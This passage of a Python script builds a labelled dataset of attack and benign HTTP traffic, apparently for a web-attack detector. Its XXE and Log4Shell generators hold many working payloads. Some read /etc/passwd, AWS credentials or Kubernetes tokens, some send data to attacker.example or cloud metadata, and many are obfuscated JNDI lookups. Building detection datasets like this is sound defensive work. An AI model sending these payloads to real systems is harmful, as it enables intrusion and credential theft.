            '  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n  <!ENTITY % ISOamso \'\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n    &#x25;eval;\n    &#x25;error;\n  \'>\n  %local_dtd;',
        ),
        path="/api/messages",
    )
    X(
        xdoc("config", "<config>&j;</config>", '  <!ENTITY j SYSTEM "jar:http://attacker.example/payload.zip!/x.txt">'),
        path="/admin/config/import",
    )
    X(xdoc("doc", "<doc>&n;</doc>", '  <!ENTITY n SYSTEM "netdoc:/etc/passwd">'), path="/api/docs")
    X(xdoc("cmd", "<cmd>&e;</cmd>", '  <!ENTITY e SYSTEM "expect://id">'), path="/xmlrpc.php")
    X(
        xdoc(
            "r",
            "<r>&exfil;</r>",
            '  <!ENTITY % data SYSTEM "file:///etc/passwd">\n  <!ENTITY % ftp SYSTEM "http://attacker.example/ftp.dtd">\n  %ftp;',
        ),
        path="/api/import/xml",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY x SYSTEM "file:///proc/self/environ">\n]>\n<rss version="2.0"><channel><title>News</title><item><title>&x;</title><link>https://example.com/a</link></item></channel></rss>',
        path="/api/feeds/import",
    )
    a(
        "json",
        xdoc("a", "<a>&b;</a>", '  <!ENTITY b SYSTEM "file:///etc/passwd">', decl=False),
        path="/api/converters/xml2json",
        param="xml",
    )
    a(
        "form",
        xdoc("req", "<req><q>&f;</q></req>", '  <!ENTITY f SYSTEM "file:///etc/issue">', decl=False),
        path="/legacy/gateway",
        param="xml",
    )
    a(
        "query",
        '<!DOCTYPE q [<!ENTITY f SYSTEM "file:///etc/hostname">]><q>&f;</q>',
        path="/api/legacy/search",
        param="xml",
    )
    X(
        xdoc(
            "methodCall",
            "<methodCall><methodName>&m;</methodName></methodCall>",
            '  <!ENTITY m SYSTEM "file:///etc/passwd">',
        ),
        path="/xmlrpc",
    )
    a(
        "multipart",
        xdoc(
            "w:document",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&d;</w:t></w:r></w:p></w:body></w:document>',
            '  <!ENTITY d SYSTEM "http://attacker.example/docx-probe">',
        ),
        mp="file",
        fname="document.xml",
        fctype="application/xml",
        path="/api/documents/convert",
        param="part",
    )
    a(
        "multipart",
        xdoc(
            "kml",
            '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&k;</name><Point><coordinates>13.4,52.5</coordinates></Point></Placemark></kml>',
            '  <!ENTITY k SYSTEM "file:///etc/passwd">',
        ),
        mp="file",
        fname="route.kml",
        fctype="application/vnd.google-earth.kml+xml",
        path="/api/maps/import",
        param="file",
    )
    a(
        "multipart",
        xdoc(
            "urlset",
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&s;</loc></url></urlset>',
            '  <!ENTITY s SYSTEM "http://127.0.0.1:8080/manager/status">',
        ),
        mp="file",
        fname="sitemap.xml",
        fctype="text/xml",
        path="/seo/sitemap/upload",
        param="sitemap",
    )
    X(
        xdoc(
            "config",
            "<config><conn>&w;</conn></config>",
            '  <!ENTITY w SYSTEM "file:///c:/inetpub/wwwroot/web.config">',
        ),
        path="/Api/Settings",
    )
    a(
        "multipart",
        xdoc(
            "xliff",
            '<xliff version="1.2"><file source-language="en" target-language="de"><body><trans-unit id="1"><source>&t;</source></trans-unit></body></file></xliff>',
            '  <!ENTITY t SYSTEM "file:///etc/passwd">',
        ),
        mp="file",
        fname="de.xlf",
        fctype="application/x-xliff+xml",
        path="/api/translations/import",
        param="file",
    )
    X(
        xdoc("user", "<user><email>&p;</email></user>", '  <!ENTITY p SYSTEM "file:///home/app/.aws/credentials">'),
        path="/api/users/bulk",
    )
    X(
        xdoc(
            "search", "<search><term>&i;</term></search>", '  <!ENTITY i SYSTEM "http://10.0.0.12:9200/_cat/indices">'
        ),
        path="/api/search/xml",
    )
    X(
        xdoc(
            "note",
            "<note>&k;</note>",
            '  <!ENTITY k SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">',
        ),
        path="/api/notes/xml",
    )
    a(
        "json",
        xdoc("profile", "<profile><bio>&b;</bio></profile>", '  <!ENTITY b SYSTEM "file:///etc/group">'),
        path="/api/profiles/import",
        param="document",
        deep=True,
    )
    # hard
    inner = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    X('<?xml version="1.0" encoding="UTF-7"?>' + utf7_strict(inner), True, path="/api/import", ctype="application/xml")
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">\n<r>&exfil;</r>',
        True,
        path="/api/orders",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE note PUBLIC "-//Acme//DTD Note 1.0//EN" "http://attacker.example/note.dtd">\n<note><to>ops</to></note>',
        True,
        path="/api/notes/xml",
    )
    X(
        xdoc(
            "\u0434\u043e\u043a",
            "<\u0434\u043e\u043a>&\u0444;</\u0434\u043e\u043a>",
            '  <!ENTITY \u0444 SYSTEM "file:///etc/passwd">',
        ),
        True,
        path="/api/v1/import",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE\n\tdata\n\t[\n\t<!-- legacy -->\n\t<!ENTITY\n\t\tx\n\t\tSYSTEM\n\t\t"file:///etc/passwd"\n\t>\n\t]\n>\n<data>&x;</data>',
        True,
        path="/api/data",
    )
    X(
        xdoc(
            "r",
            "<r>&all;</r>",
            '  <!ENTITY % start "<![CDATA[">\n  <!ENTITY % file SYSTEM "file:///var/www/html/config.php">\n  <!ENTITY % end "]]>">\n  <!ENTITY % dtd SYSTEM "http://attacker.example/join.dtd">\n  %dtd;',
        ),
        True,
        path="/api/sync",
    )
    saml = xdoc(
        "samlp:Response",
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:Response>',
        '  <!ENTITY x SYSTEM "http://attacker.example/saml">',
    )
    a("form", b64(saml), True, path="/saml/acs", param="SAMLResponse", form_extra=[("RelayState", "/dashboard")])
    a(
        "json",
        xdoc("a", "<a>&b;</a>", '<!ENTITY b SYSTEM "file:///etc/passwd">', decl=False),
        True,
        esc=set("<>!&"),
        path="/api/converters/xml2json",
        param="xml",
    )
    X(xdoc("r", "<r>&x;</r>", '  <!ENTITY x SYSTEM "file:/etc/passwd">'), True, path="/api/orders")
    X(xdoc("r", "<r>&x;</r>", '  <!ENTITY x SYSTEM "file://localhost/etc/shadow">'), True, path="/api/orders")
    X(
        xdoc("r", "<r>&x;</r>", '  <!ENTITY % a "&#x3C;!ENTITY x SYSTEM &#x27;file:///etc/passwd&#x27;&#x3E;">\n  %a;'),
        True,
        path="/api/parse",
    )
    X(
        '<?xml version="1.0"?>\n<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text" encoding="ISO-8859-1"><xi:fallback><xi:include href="http://attacker.example/xi-fallback"/></xi:fallback></xi:include></root>',
        True,
        path="/api/catalog/import",
    )
    X(
        xdoc(
            "r",
            "<r>1</r>",
            "  <!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://attacker.example/x.dtd'>\">\n  %a;\n  %b;",
        ),
        True,
        path="/api/v1/import",
    )
    a(
        "query",
        pct_once('<!DOCTYPE q [<!ENTITY f SYSTEM "file:///etc/passwd">]><q>&f;</q>'),
        True,
        path="/api/legacy/search",
        param="xml",
    )
    X(
        xdoc(
            "r",
            "<r>x</r>",
            '  <!ENTITY % local SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">\n  <!ENTITY % constant \'aaa)>\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">\n    &#x25;eval;\n    &#x25;error;\n    <!ELEMENT aa (bb\'>\n  %local;',
        ),
        True,
        path="/api/messages",
    )
    X(
        xdoc(
            "config",
            "<config>&j;</config>",
            '  <!ENTITY j SYSTEM "jar:file:///var/www/uploads/u123/avatar.zip!/evil.dtd">',
        ),
        True,
        path="/admin/config/import",
    )
    a(
        "multipart",
        xdoc(
            "svg",
            '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40">\n\t<text\tx="1"\ty="20">&p;</text>\n</svg>',
            '\t<!ENTITY\tp\tSYSTEM\t"php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd">',
        ),
        True,
        mp="file",
        fname="badge.svg",
        fctype="image/svg+xml",
        path="/api/badges",
        param="image",
    )
    X(
        xdoc(
            "soap:Envelope",
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ping>&send;</ping></soap:Body></soap:Envelope>',
            '  <!ENTITY % f SYSTEM "file:///etc/hostname">\n  <!ENTITY % wrap "<!ENTITY send SYSTEM \'http://attacker.example/?d=%f;\'>">\n  %wrap;',
        ),
        True,
        path="/ws/PingService",
        ctype="text/xml; charset=utf-8",
    )
    X(
        xdoc(
            "item",
            "<item><a>&m;</a><b>&m;</b></item>",
            '  <!ENTITY m SYSTEM "htTp://169.254.169.254/latest/meta-data/hostname">',
        ),
        True,
        path="/api/items/xml",
    )
    a(
        "multipart",
        xdoc(
            "x:xmpmeta",
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>&e;</rdf:Description></rdf:RDF></x:xmpmeta>',
            '  <!ENTITY e SYSTEM "file:///etc/passwd">',
            decl=False,
        ),
        True,
        mp="file",
        fname="metadata.xmp",
        fctype="application/rdf+xml",
        path="/api/photos/metadata",
        param="xmp",
    )
    return a.rows


# ------------------------------------------------------------ log4shell ----
def cat_log4(r):
    a = L()
    A = "attacker.example"
    a("header", "${jndi:ldap://%s:1389/a}" % A, hdr="User-Agent", path="/")
    a("header", "${jndi:ldap://203.0.113.7:1389/Exploit}", hdr="X-Api-Version", path="/api/v1/status")
    a("header", "${jndi:rmi://198.51.100.23:1099/obj}", hdr="Referer", path="/login")
    a("header", "${jndi:dns://oob.attacker.example/xff}", hdr="X-Forwarded-For", path="/api/orders")
    a("query", "${jndi:ldap://x7k2q.oast.example/search}", path="/search", param="q")
    a("json", "${jndi:ldaps://%s:636/u}" % A, path="/api/auth/login", param="username")
    a("form", "${jndi:ldap://%s/pw}" % A, path="/login", param="password", form_extra=[("username", "admin")])
    a("cookie", "${jndi:ldap://%s/ck}" % A, cookie="remember", path="/")
    a("path", "${jndi:ldap://%s/p}" % A, path_tpl="/api/v1/items/{}")
    a(
        "multipart",
        "${jndi:ldap://%s/f}.pdf" % A,
        mp="filename",
        fcontent="%PDF-1.4\n",
        fctype="application/pdf",
        path="/api/documents",
        param="file",
    )
    a("xml", "${jndi:iiop://%s:900/x}" % A, path="/api/soap/orders", param="customerName")
    a("query_key", "${jndi:ldap://%s/k}" % A, keyval="1", path="/api/products")
    a("json_key", "${jndi:ldap://%s/jk}" % A, keyval="x", path="/api/events", param="properties")
    a("json", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}", path="/api/feedback", param="message")
    a("header", "${jndi:ldap://${sys:java.version}.oob.attacker.example/v}", hdr="X-Client-Version", path="/api/config")
    a("query", "${jndi:ldap://${hostName}.attacker.example/h}", path="/api/lookup", param="id")
    a(
        "json",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}",
        path="/api/messages/format",
        param="template",
    )
    a("form", "${dns:address|attacker.example}", path="/api/interpolate", param="text")
    a("query", "${url:UTF-8:http://attacker.example/t4s}", path="/api/render", param="expr")
    a("json", "${jndi:ldap://%s:1389/o=tomcat}" % A, path="/api/users", param="firstName")
    a("header", "Bearer ${jndi:ldap://%s/auth}" % A, hdr="Authorization", path="/api/me")
    a("header", "${jndi:ldap://%s/xfh}" % A, hdr="X-Forwarded-Host", path="/")
    a("multipart", "${jndi:rmi://%s/m}" % A, mp="field", path="/api/support/upload", param="description")
    a("xml", "${jndi:ldap://%s/soap}" % A, path="/ws/Account", param="login", xml_style=1)
    a("json", pad_text(r) + " ${jndi:ldap://%s/longtext}" % A, path="/api/tickets", param="body")
    a("cookie", "${jndi:dns://%s/c2}" % A, cookie="JSESSIONID", path="/app/")
    a("header", "${jndi:ldap://%s/acc}" % A, hdr="Accept", path="/api/health")
    a("json", "${jndi:ldap://%s/deep}" % A, path="/api/settings", param="nickname", deep=True)
    a(
        "header",
        "${jndi:ldap://%s/origin}" % A,
        hdr="Origin",
        path="/api/cart",
        method="POST",
        body_override=("application/json", '{"sku":"A-1"}'),
    )
    a("query", "${jndi:ldap://${env:USER}.${env:HOSTNAME}.attacker.example/e}", path="/api/search", param="term")
    # hard
    a("header", "${${lower:j}ndi:${lower:l}dap://%s/a}" % A, True, hdr="User-Agent", path="/")
    a("query", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/a}" % A, True, path="/search", param="q")
    a(
        "json",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}" % A,
        True,
        path="/api/auth/login",
        param="username",
    )
    a(
        "header",
        "${jndi:${lower:L}${lower:D}${lower:A}${lower:P}://%s/a}" % A,
        True,
        hdr="X-Api-Version",
        path="/api/v1/status",
    )
    a("form", "${JnDi:lDaP://%s/a}" % A, True, path="/login", param="username")
    a("header", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/a}" % A, True, hdr="Referer", path="/")
    a("json", "${j${k8s:k5:-ND}i:ldap://%s/a}" % A, True, path="/api/profile", param="displayName")
    a("query", pct_once("${jndi:ldap://%s/a}" % A), True, path="/api/lookup", param="id")
    a("json", "${jndi:ldap://%s/esc}" % A, True, esc=set("${}:"), path="/api/feedback", param="message")
    a("header", "${jndi:ldap://127.0.0.1#%s:1389/a}" % A, True, hdr="X-Forwarded-For", path="/api/orders")
    a("cookie", "${jndi:ldap://%s:1389/a}" % ip_v6mapped(ATK_IP), True, cookie="lang", path="/")
    a(
        "json",
        "${script:JavaScript:java.lang.Runtime.getRuntime().exec(String.fromCharCode(105,100))}",
        True,
        path="/api/messages/format",
        param="template",
    )
    a("query", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://%s/a}" % A, True, path="/search", param="q")
    a("header", "${${upper:j}${upper:n}${lower:d}i:ldap://%s/a}" % A, True, hdr="X-Request-ID", path="/api/health")
    a(
        "multipart",
        "${jndi:dns://${env:JAVA_VERSION:-x}.a.attacker.example}",
        True,
        mp="field",
        path="/api/support/upload",
        param="subject",
    )
    a("xml", "${${sys:nope:-j}${sys:nope:-n}di:ldap://%s/a}" % A, True, path="/api/soap/orders", param="customerName")
    a(
        "json_key",
        "${jndi:ldap://%s/k}" % A,
        True,
        keyval="v",
        esc_map={"${jndi:ldap://%s/k}" % A: set("${")},
        path="/api/events",
        param="properties",
    )
    a("path", "${${lower:${lower:jndi}}:${lower:ldap}://%s/a}" % A, True, path_tpl="/api/v1/items/{}")
    a("cookie", "${jndi:rmi://%s/c}" % A, True, cookie="remember", enc="all", path="/")
    a("header", "%24%7Bjndi:ldap://attacker.example/a%7D", True, hdr="X-Api-Version", path="/api/v2/status")
    return a.rows


ATTACK_CATS = [
    ("java_injection", cat_java),
    ("php_injection", cat_php),
    ("code_injection", cat_code),
    ("rfi", cat_rfi),
    ("ssrf", cat_ssrf),
    ("rce", cat_rce),
    ("sqli", cat_sqli),
    ("nosqli", cat_nosqli),
    ("ldapi", cat_ldapi),
    ("ssti", cat_ssti),
    ("crlf", cat_crlf),
    ("mail_injection", cat_mail),
    ("xss", cat_xss),
    ("path_traversal", cat_path),
    ("xxe", cat_xxe),
    ("log4shell", cat_log4),
]

ATTACK_HOSTS = [
    "api.example.com",
    "shop.example.com",
    "portal.example.net",
    "app.example.org",
    "cms.example.com",
    "intranet.example.local",
    "www.example.com",
    "services.example.net",
]


def attack_specs(r):
    out = []
    for cat, fn in ATTACK_CATS:
        rows = fn(r)
        for s in rows:
            s["cat"] = cat
            s["label"] = "attack"
            s.setdefault("host", r.choice(ATTACK_HOSTS))
            s.setdefault("ua", r.choice(TOOL_UAS + BROWSER_UAS + TOOL_UAS))
            if s["pl"] == "xml" or (s.get("body_override") and "xml" in s["body_override"][0]):
                s.setdefault("accept", r.choice(ACCEPTS_XML))
            elif s["pl"] in ("path", "cookie", "header") and r.random() < 0.4:
                s.setdefault("accept", r.choice(ACCEPTS_HTML))
            else:
                s.setdefault("accept", r.choice(ACCEPTS_API + ACCEPTS_HTML[:1]))
            out.append(s)
    return out


# --------------------------------------------------------------------------
# benign traffic
# --------------------------------------------------------------------------

FIRST = [
    "Alice",
    "Bob",
    "Carlos",
    "Dana",
    "Eitan",
    "Fatima",
    "Grace",
    "Hiroshi",
    "Ingrid",
    "Jamal",
    "Kateryna",
    "Liam",
    "Mei",
    "Nikhil",
    "Olga",
    "Pedro",
    "Quinn",
    "Rosa",
    "Sven",
    "Tomás",
    "Uchenna",
    "Valeria",
    "Wei",
    "Yusuf",
    "Zoë",
    "Siobhan",
    "Padraig",
    "Ngozi",
    "Anaïs",
    "Björn",
    "Marta",
    "Kenji",
    "Aisha",
    "Lukas",
    "Priya",
    "Mateo",
]
LAST = [
    "Smith",
    "O'Brien",
    "García",
    "Nguyen",
    "Müller",
    "Kowalski",
    "D'Angelo",
    "Okafor",
    "Johansson",
    "Tanaka",
    "O'Neill",
    "Fernández",
    "Dubois",
    "MacLeod",
    "Schmidt",
    "Rossi",
    "Kim",
    "Patel",
    "van der Berg",
    "St. John",
    "Da Silva",
    "Al-Rashid",
    "Levi",
    "Novak",
    "Brennan",
    "Haddad",
    "Lindqvist",
    "Moreau",
    "Sato",
    "Walsh",
]
ASCII_LAST = [
    "Smith",
    "Nguyen",
    "Kowalski",
    "Okafor",
    "Johansson",
    "Tanaka",
    "Dubois",
    "MacLeod",
    "Schmidt",
    "Rossi",
    "Kim",
    "Patel",
    "Levi",
    "Novak",
    "Brennan",
    "Haddad",
    "Lindqvist",
    "Moreau",
    "Sato",
    "Walsh",
]
ASCII_FIRST = [
    "Alice",
    "Bob",
    "Carlos",
    "Dana",
    "Eitan",
    "Fatima",
    "Grace",
    "Hiroshi",
    "Ingrid",
    "Jamal",
    "Liam",
    "Mei",
    "Nikhil",
    "Olga",
    "Pedro",
    "Quinn",
    "Rosa",
    "Sven",
    "Wei",
    "Yusuf",
    "Marta",
    "Kenji",
    "Aisha",
    "Lukas",
]
CITIES = [
    ("Berlin", "10115", "DE"),
    ("Dublin", "D02 X285", "IE"),
    ("Lyon", "69002", "FR"),
    ("Austin", "78701", "US"),
    ("Toronto", "M5V 2T6", "CA"),
    ("Melbourne", "3000", "AU"),
    ("Osaka", "530-0001", "JP"),
    ("Madrid", "28013", "ES"),
    ("Leeds", "LS1 4DY", "GB"),
    ("Porto", "4000-123", "PT"),
    ("Denver", "80202", "US"),
    ("Galway", "H91 E2K3", "IE"),
]
STREETS = [
    "Main St",
    "Harbour Road",
    "Rue de la République",
    "Schillerstraße",
    "King Street West",
    "Collins St",
    "Calle de Alcalá",
    "Elm Avenue",
    "O'Connell Street",
    "St. Stephen's Green",
    "Rua das Flores",
    "Park Lane",
]
PRODUCTS = [
    "Trail Runner 2",
    "Ceramic Mug",
    "Linen Shirt",
    "Desk Lamp",
    "Noise-cancelling Headphones",
    "Yoga Mat",
    "Espresso Grinder",
    "Wool Scarf",
    "Backpack 28L",
    "Standing Desk",
    "Cast Iron Pan",
    "Rain Jacket",
    "USB-C Hub",
    "Notebook A5",
    "Water Bottle",
    "Bike Light Set",
]
COMPANIES = [
    "Acme Logistics",
    "Northwind Traders",
    "Blue Harbor Foods",
    "Smith & Sons",
    "Lumen Analytics",
    "Fjord Outdoor",
    "Ben & Jerry's Franchise 41",
    "Kaffeehaus Müller GmbH",
    "O'Reilly Auto Parts Store 812",
    "Pixel & Pine Studio",
]
MONTHS = [
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
]
SLUGS = [
    "winter-sale",
    "new-arrivals",
    "spring-collection",
    "gift-guide",
    "clearance",
    "best-sellers",
    "outdoor",
    "home-office",
    "kitchen",
    "accessories",
]
BENIGN_UAS = (
    BROWSER_UAS * 3 + APP_UAS + ["python-requests/2.32.3", "axios/1.7.7", "PostmanRuntime/7.42.0", "okhttp/4.12.0"]
)


def name(r, ascii_only=False):
    if ascii_only:
        return r.choice(ASCII_FIRST), r.choice(ASCII_LAST)
    return r.choice(FIRST), r.choice(LAST)


def sentence_case(s):
    return s[:1].upper() + s[1:]


class BL:
    """collects benign specs for one kind and keeps payloads unique."""

    def __init__(self):
        self.rows = []
        self.seen = set()

    def __call__(self, pl, p, hard, **o):
        if p in self.seen:
            return False
        self.seen.add(p)
        d = dict(pl=pl, p=p, hard=hard)
        d.update(o)
        self.rows.append(d)
        return True


def fill(r, n, fn):
    b = BL()
    i = 0
    tries = 0
    while len(b.rows) < n:
        hard = len(b.rows) % 3 == 0
        if fn(r, b, hard, len(b.rows)):
            pass
        tries += 1
        assert tries < n * 50, "could not generate enough unique rows"
    return b.rows


def pick_pl(r, weights):
    tot = sum(w for _, w in weights)
    x = r.random() * tot
    for pl, w in weights:
        x -= w
        if x < 0:
            return pl
    return weights[-1][0]


# ---------------------------------------------------------- rich text ----
def rt_blocks(r, hard):
    m = r.randint(1, 12)
    d = r.randint(1, 28)
    f1, l1 = name(r)
    prod = r.choice(PRODUCTS)
    slug = r.choice(SLUGS)
    normal = [
        '<p>Our <strong>%s</strong> starts on <time datetime="2026-%02d-%02d">%s %d</time>. Browse the <a href="https://shop.example.com/collections/%s?utm_source=newsletter&amp;utm_medium=email">%s collection</a>.</p>'
        % (sentence_case(slug.replace("-", " ")), m, d, MONTHS[m - 1], d, slug, prod),
        "<p>Hi %s, thanks for joining <em>%s</em>! Your account manager is %s %s.</p>"
        % (f1, r.choice(COMPANIES), *name(r)),
        '<h2 id="%s">%s</h2>'
        % (
            slug,
            r.choice(["Shipping &amp; returns", "What's new", "Opening hours", "Meet the team", "Care instructions"]),
        ),
        '<img src="/media/2026/%02d/%s-%d.jpg" alt="%s" width="%d" height="%d" loading="lazy">'
        % (m, slug, r.randint(1, 99), prod, r.choice([800, 1200, 1600]), r.choice([400, 600, 900])),
        '<figure><img src="https://cdn.example.com/img/%s.webp" alt="%s on a wooden table"><figcaption>Photo: %s %s</figcaption></figure>'
        % (slug, prod, f1, l1),
        '<table class="pricing"><thead><tr><th>Plan</th><th>Price</th><th>Seats</th></tr></thead><tbody><tr><td>Starter</td><td>&euro;%d</td><td>3</td></tr><tr><td>Team</td><td>&euro;%d</td><td>%d</td></tr></tbody></table>'
        % (r.choice([9, 12, 15]), r.choice([39, 49, 59]), r.choice([10, 25, 50])),
        "<ul><li>Free delivery over &euro;%d</li><li>30-day returns</li><li>Gift wrapping available</li></ul>"
        % r.choice([40, 50, 75]),
        "<blockquote><p>&ldquo;Best %s I have owned, full stop.&rdquo;</p><footer>&mdash; %s %s.</footer></blockquote>"
        % (prod.lower(), f1, l1[0]),
        '<p>Questions? Write to <a href="mailto:support@example.com">support@example.com</a> or call <a href="tel:+4930%06d">+49 30 %06d</a>.</p>'
        % ((r.randint(100000, 999999),) * 2),
        '<p style="text-align:center"><span style="color:#1a73e8;font-size:18px">Store hours: Mon&ndash;Sat 9:00&ndash;19:00</span></p>',
        "<ol><li>Unbox the %s</li><li>Charge for 2 hours</li><li>Pair it in the app</li></ol>" % prod.lower(),
        '<p><a href="/blog/%s" class="btn btn-primary">Read more</a> &middot; <a href="/blog/tag/%s">#%s</a></p>'
        % (slug, slug, slug),
    ]
    hards = [
        "<pre><code class=\"language-sql\">SELECT id, email FROM customers WHERE created_at &gt;= '2026-%02d-01' ORDER BY id;</code></pre>"
        % m,
        '<p>To embed the widget, paste <code>&lt;script src="https://cdn.example.com/widget.js" async&gt;&lt;/script&gt;</code> before the closing <code>&lt;/body&gt;</code> tag.</p>',
        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/%s" title="YouTube video player" frameborder="0" allow="accelerometer; clipboard-write; encrypted-media; picture-in-picture" allowfullscreen></iframe>'
        % rand_alnum(r, 11),
        "<p>The <code>onerror</code> and <code>onload</code> attributes are stripped by our sanitizer, so use the image block instead.</p>",
        '<pre><code class="language-bash">curl -X POST https://api.example.com/v1/orders -H "Authorization: Bearer $TOKEN" -d \'{"sku":"A-%d"}\'</code></pre>'
        % r.randint(100, 999),
        '<a href="https://www.example.com/search?q=union+station&amp;type=place&amp;sort=relevance" target="_blank" rel="noopener noreferrer">Union Station</a>',
        '<p>Rock &amp; Roll Hall of Fame &ndash; %s\'s "best of" list &gt; 50 items</p>'
        % r.choice(["O'Brien", "D'Angelo", "O'Neill"]),
        '<p>Formula used in the sheet: <code>=IF(A2&gt;100,"high","low")</code></p>',
        '<ul class="task-list"><li><input type="checkbox" checked disabled> Update DNS</li><li><input type="checkbox" disabled> Drop old tables after backup</li></ul>',
        "<p>Use <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>R</kbd> to reload; if the page still shows <code>{{ title }}</code>, clear the template cache.</p>",
        '<pre><code class="language-html">&lt;img src="logo.png" alt="Logo" onerror="this.style.display=\'none\'"&gt;</code></pre>',
        "<p>Path to the shared drive: <code>\\\\fileserver\\marketing\\2026\\</code> (ask IT for access).</p>",
    ]
    k = r.randint(2, 4)
    blocks = r.sample(normal, k)
    if hard:
        blocks.insert(r.randint(0, len(blocks)), r.choice(hards))
    return "".join(blocks) if r.random() < 0.6 else "\n".join(blocks)


def gen_richtext(r, b, hard, i):
    html = rt_blocks(r, hard)
    pl = pick_pl(r, [("json", 55), ("form", 20), ("multipart", 12), ("xml", 13)])
    title = r.choice(
        ["Winter update", "Store news", "Product spotlight", "Team page", "FAQ", "Care guide", "Release notes"]
    )
    path = r.choice(
        ["/api/v1/posts", "/api/cms/pages", "/wp-json/wp/v2/posts", "/admin/articles/save", "/api/newsletters/draft"]
    )
    if pl == "json":
        return b(
            pl,
            html,
            hard,
            path=path,
            doc={
                "post": {
                    "title": title,
                    "slug": title.lower().replace(" ", "-"),
                    "status": r.choice(["draft", "publish"]),
                    "content": PH,
                    "tags": r.sample(SLUGS, 2),
                }
            },
        )
    if pl == "form":
        return b(
            pl,
            html,
            hard,
            path=path,
            param=r.choice(["content", "body_html", "article[body]"]),
            form_extra=[("title", title), ("status", "draft")],
            no_filler_form=True,
        )
    if pl == "multipart":
        return b(
            pl,
            html,
            hard,
            path=path,
            param="content",
            mp="field",
            mp_extra=[("title", title, None, None), ("hero", "\xff\xd8\xff\xe0 JFIF", "hero.jpg", "image/jpeg")],
        )
    tpl = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<entry xmlns="http://www.w3.org/2005/Atom">\n  <title>%s</title>\n  <updated>2026-12-0%dT09:00:00Z</updated>\n  <content type="html">%s</content>\n</entry>'
        % (title, r.randint(1, 7), PH)
    )
    return b(pl, html, hard, path="/api/feeds/entries", xml_tpl=tpl, ctype="application/atom+xml")


# ----------------------------------------------------------- markdown ----
def md_text(r, hard):
    org = r.choice(["acme", "northwind", "lumen-labs", "fjord-dev", "pixelpine"])
    proj = r.choice(
        ["orderbook", "tiny-queue", "geo-utils", "invoice-kit", "feature-flags", "pdf-stamp", "slugify-plus"]
    )
    mod = proj.replace("-", "_")
    env = mod.upper() + "_API_KEY"
    f, l = name(r)
    n = r.randint(2, 980)
    normal = [
        "# %s\n\n%s\n"
        % (
            proj,
            r.choice(
                [
                    "A small library for parsing invoices.",
                    "Fast, typed helpers for geo data.",
                    "Feature flags without a server.",
                    "Stamp PDFs in one line.",
                ]
            ),
        ),
        "[![CI](https://github.com/%s/%s/actions/workflows/ci.yml/badge.svg)](https://github.com/%s/%s/actions) [![PyPI](https://img.shields.io/pypi/v/%s.svg)](https://pypi.org/project/%s/)\n"
        % (org, proj, org, proj, proj, proj),
        "## Installation\n\n```bash\npip install %s\n```\n" % proj,
        '## Usage\n\n```python\nimport os\nfrom %s import Client\n\nclient = Client(api_key=os.environ["%s"])\nprint(client.list_orders(limit=%d))\n```\n'
        % (mod, env, r.choice([10, 20, 50])),
        "| Option | Default | Description |\n|---|---|---|\n| `timeout` | `30` | Request timeout in seconds |\n| `retries` | `%d` | Retries on 5xx |\n"
        % r.randint(1, 5),
        "- [x] Add tests\n- [x] Update docs\n- [ ] Update CHANGELOG for v%d.%d.0\n"
        % (r.randint(1, 4), r.randint(0, 12)),
        "**Steps to reproduce**\n\n1. Open *Settings*\n2. Click **Export**\n3. See error\n\n**Expected:** CSV downloads\n**Actual:** spinner forever (issue #%d)\n"
        % n,
        "```\nTraceback (most recent call last):\n  File \"app.py\", line %d, in <module>\n    main()\nKeyError: 'customer_id'\n```\n"
        % r.randint(10, 300),
        "> **Note**\n> The v2 API is deprecated and will be removed in %s 2027.\n" % r.choice(MONTHS),
        "See [the docs](https://docs.example.com/guide#auth) and [CONTRIBUTING](./CONTRIBUTING.md). Thanks @%s!\n"
        % (f.lower() + l[:1].lower()),
        "Thanks for the quick fix, %s :tada: Confirmed working on %s.\n"
        % (f, r.choice(["macOS 15", "Ubuntu 24.04", "Windows 11", "Node 22", "Python 3.12"])),
